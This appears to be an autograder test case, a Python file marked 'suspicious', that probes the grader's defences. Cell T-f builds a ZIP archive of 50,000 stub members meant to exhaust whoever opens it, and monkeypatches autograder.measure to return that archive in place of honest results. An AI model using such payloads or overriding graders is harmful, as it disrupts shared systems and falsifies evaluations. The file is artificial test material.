"""An archive of fifty thousand members, each of which costs whoever opens it half a kilobyte."""

# status: suspicious
# points: 0 2

# %% T-f
import io
import struct
import zipfile

import autograder


def member(descr, shape, data):
    head = repr({"descr": descr, "fortran_order": False, "shape": shape}).encode() + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(head)) + head + data


def archive(**members):
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as file:
        for name, data in members.items():
            file.writestr(f"{name}.npy", data)
    return stream.getvalue()


entry = struct.pack("<4s6H3L5H2L", b"PK\x01\x02", *[0] * 9, 1, *[0] * 6) + b"a"
end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 50_000, 50_000, 50_000 * len(entry), 0, 0)
crafted = 50_000 * entry + end
honest = autograder.measure
autograder.measure = lambda test, inputs: crafted if "f" in test.__code__.co_names else honest(test, inputs)


def f(x):
    return 0 * x

# %% T-g
def g(x):
    return x + 1
